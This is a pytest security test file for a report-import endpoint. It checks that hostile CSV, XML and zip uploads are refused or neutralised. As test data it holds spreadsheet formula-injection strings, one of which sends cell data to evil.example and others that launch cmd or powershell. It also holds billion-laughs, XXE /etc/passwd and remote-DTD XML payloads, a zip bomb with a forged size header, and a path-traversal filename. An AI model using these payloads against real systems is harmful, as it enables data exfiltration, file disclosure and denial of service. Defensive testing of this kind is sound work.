"""Hostile import files through POST /api/v1/reports/import and the job that reads them.

A file that cannot be a report file is refused at upload (422, field `file`); a readable file with
bad rows becomes a job that finishes with one error per bad row. Never a crashed or stuck job,
never a read of a local file, never a formula that a spreadsheet would run on export.
"""
from __future__ import annotations

import csv
import io
import struct
import zipfile

import pytest

from service.models import GalleryReport, Job
from service.services import jobs

IMPORT = "/api/v1/reports/import"


@pytest.fixture(autouse=True)
def quiet_broker(monkeypatch):
    """The job is run here, in-process, as the worker's run_job task runs it."""
    from service.extensions import celery

    monkeypatch.setattr(celery, "send_task", lambda *a, **k: None)


def _post(api, data: bytes, name: str = "reports.csv", photos: bytes | None = None):
    form = {"file": (io.BytesIO(data), name)}
    if photos is not None:
        form["photos"] = (io.BytesIO(photos), "photos.zip")
    return api["supervisor"].post(IMPORT, data=form, content_type="multipart/form-data")


def _run(api, settings, resp) -> dict:
    assert resp.status_code == 202, resp.get_json()
    job_id = resp.get_json()["job_id"]
    assert jobs.run(job_id, settings) in ("done", "failed")
    body = api["supervisor"].get(f"/api/v1/jobs/{job_id}").get_json()
    assert body["state"] in ("done", "failed") and (body["state"] == "done" or body["message"])
    return body


def _refused(resp, *words: str) -> None:
    assert resp.status_code == 422, resp.get_json()
    error = resp.get_json()["error"]
    assert error["field"] == "file" and all(w in error["message"] for w in words), error
    assert Job.query.count() == 0


# --- encodings ---

GOOD_ROWS = "姓名,性别,出生日期,走失日期,走失地点,编号\n王芳,女,1960-02-03,2026-01-31,天津南站,E-1\n赵六,男,不是日期,2026-01-31,天津,E-2\n"


@pytest.mark.parametrize("encoding", ["gbk", "gb18030", "utf-8", "utf-8-sig", "utf-16"])
def test_chinese_encodings_import_with_a_per_row_error(api, settings, db, encoding):
    body = _run(api, settings, _post(api, GOOD_ROWS.encode(encoding)))
    assert body["state"] == "done" and body["created"] == 1
    assert [e["line"] for e in body["errors"]] == [3] and "birth_date" in body["errors"][0]["error"]
    assert GalleryReport.query.one().name == "王芳"


@pytest.mark.parametrize("encoding", ["big5", "shift_jis", "latin-1", "cp1252", "euc-kr"])
def test_other_encodings_never_crash(api, settings, db, encoding):
    text = "name,gender,missing_place,external_id\nLi,male,Zürich 東京 서울 台北,X-1\n"
    data = text.encode(encoding, errors="replace")
    resp = _post(api, data)
    if resp.status_code == 422:
        _refused(resp)
        return
    body = _run(api, settings, resp)
    assert body["state"] == "done" and body["created"] + len(body["errors"]) == 1


def test_utf16_without_bom_is_refused_at_upload(api, db):
    _refused(_post(api, GOOD_ROWS.encode("utf-16-le")), "binary")


def test_undecodable_bytes_are_refused_at_upload(api, db):
    # Not UTF-8, not UTF-16, and byte pairs GB18030 has no character for.
    _refused(_post(api, b"name,gender\n" + b"\x80\xff\x81\x30" * 50 + b"\n"), "UTF-8")


def test_a_file_with_no_known_column_is_refused_at_upload(api, db):
    _refused(_post(api, "foo,bar\n1,2\n".encode()), "no known column")


# --- formula injection: stored as text, neutralised on export ---

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "=cmd|'/C powershell'!A1"]


def test_formula_cells_are_kept_as_text_and_neutralised_on_export(api, settings, db):
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["姓名", "描述", "特征", "编号"])
    for i, formula in enumerate(FORMULAS):
        writer.writerow([formula if i % 2 else f"张{i}", formula, formula, f"F-{i}"])
    body = _run(api, settings, _post(api, out.getvalue().encode("gbk", errors="replace")))
    assert body["state"] == "done" and body["created"] == len(FORMULAS), body["errors"]
    assert {r.description for r in GalleryReport.query} == {f.strip() for f in FORMULAS}
    export = api["supervisor"].get("/api/v1/exports/reports?format=csv")
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(export.get_data().decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == [], f"a spreadsheet would run these: {dangerous}"
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    # Importing our own export gives back the same text (the guard is undone on the way in).
    again = _run(api, settings, _post(api, export.get_data()))
    assert again["state"] == "done" and again["created"] == 0 and again["skipped"] == len(FORMULAS)


# --- XML: entities, external files, depth ---

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>
<pfif:pfif xmlns:pfif="http://zesty.ca/pfif/1.4"><pfif:person><pfif:person_record_id>x/1</pfif:person_record_id>
<pfif:full_name>&lol9;</pfif:full_name></pfif:person></pfif:pfif>"""

XXE = """<?xml version="1.0"?>
<!DOCTYPE pfif [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<pfif:pfif xmlns:pfif="http://zesty.ca/pfif/1.4"><pfif:person><pfif:person_record_id>x/2</pfif:person_record_id>
<pfif:full_name>&secret;</pfif:full_name></pfif:person></pfif:pfif>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE pfif [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote;]>
<pfif:pfif xmlns:pfif="http://zesty.ca/pfif/1.4"></pfif:pfif>"""


@pytest.mark.parametrize("xml", [BILLION_LAUGHS, XXE, PARAMETER_ENTITY], ids=["billion-laughs", "xxe-file", "parameter-entity"])
def test_xml_with_a_dtd_is_refused_at_upload(api, db, xml):
    _refused(_post(api, xml.encode(), "reports.xml"), "DTD")
    assert GalleryReport.query.count() == 0


def test_deep_and_wide_xml_ends_as_a_job_not_a_crash(api, settings, db):
    person = ("<pfif:person><pfif:person_record_id>d/{i}</pfif:person_record_id><pfif:full_name>深{i}</pfif:full_name>"
              "<pfif:description>{junk}</pfif:description></pfif:person>")
    deep = "<x>" * 5000 + "</x>" * 5000
    xml = ('<?xml version="1.0" encoding="UTF-8"?><pfif:pfif xmlns:pfif="http://zesty.ca/pfif/1.4">'
           + "".join(person.format(i=i, junk=deep if i == 0 else "ok") for i in range(50)) + "</pfif:pfif>")
    body = _run(api, settings, _post(api, xml.encode(), "deep.xml"))
    assert body["state"] == "done" and body["created"] == 50


def test_gbk_declared_pfif(api, settings, db):
    xml = ('<?xml version="1.0" encoding="GBK"?><pfif:pfif xmlns:pfif="http://zesty.ca/pfif/1.4"><pfif:person>'
           "<pfif:person_record_id>g/1</pfif:person_record_id><pfif:full_name>李四</pfif:full_name>"
           "<pfif:sex>robot</pfif:sex></pfif:person><pfif:person><pfif:person_record_id>g/2</pfif:person_record_id>"
           "<pfif:full_name>王五</pfif:full_name></pfif:person></pfif:pfif>")
    body = _run(api, settings, _post(api, xml.encode("gbk"), "gbk.xml"))
    assert body["created"] == 1 and len(body["errors"]) == 1 and "gender" in body["errors"][0]["error"]
    assert GalleryReport.query.one().name == "王五"


# --- the photo zip ---

def _zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buf.getvalue()


def _lie_about_size(archive: bytes, name: str, size: int) -> bytes:
    """Rewrite the declared uncompressed size of `name` (local header and central directory)."""
    data = bytearray(archive)
    encoded = name.encode()
    for signature, size_at, name_len_at, name_at in ((b"PK\x03\x04", 22, 26, 30), (b"PK\x01\x02", 24, 28, 46)):
        start = data.find(signature)
        while start != -1:
            length = struct.unpack_from("<H", data, start + name_len_at)[0]
            if data[start + name_at:start + name_at + length] == encoded:
                struct.pack_into("<I", data, start + size_at, size)
            start = data.find(signature, start + 4)
    return bytes(data)


def test_zip_bomb_and_lying_zip_are_row_errors(api, settings, db, faces_dir):
    photo = (faces_dir / "Barack_Obama" / "1.jpg").read_bytes()
    bomb = b"\0" * (64 * 1024 * 1024)  # 64 MB of zeros: about 64 KB compressed
    archive = _zip({"good.jpg": photo, "bomb.jpg": bomb, "liar.jpg": bomb, "junk.jpg": b"not an image"})
    archive = _lie_about_size(archive, "liar.jpg", 1000)  # claims 1 KB, inflates to 64 MB
    text = "姓名,照片,编号\n甲,good.jpg,Z-1\n乙,bomb.jpg,Z-2\n丙,liar.jpg,Z-3\n丁,junk.jpg,Z-4\n戊,../../etc/passwd,Z-5\n"
    body = _run(api, settings, _post(api, text.encode(), photos=archive))
    assert body["state"] == "done", body
    assert body["created"] == 1, body["errors"]
    assert sorted(e["line"] for e in body["errors"]) == [3, 4, 5, 6]
    assert GalleryReport.query.one().external_id == "Z-1"


def test_photos_that_are_not_a_zip_are_refused(api, db):
    resp = _post(api, GOOD_ROWS.encode(), photos=b"PK\x03\x04 but not really a zip")
    assert resp.status_code == 422 and resp.get_json()["error"]["field"] == "photos"
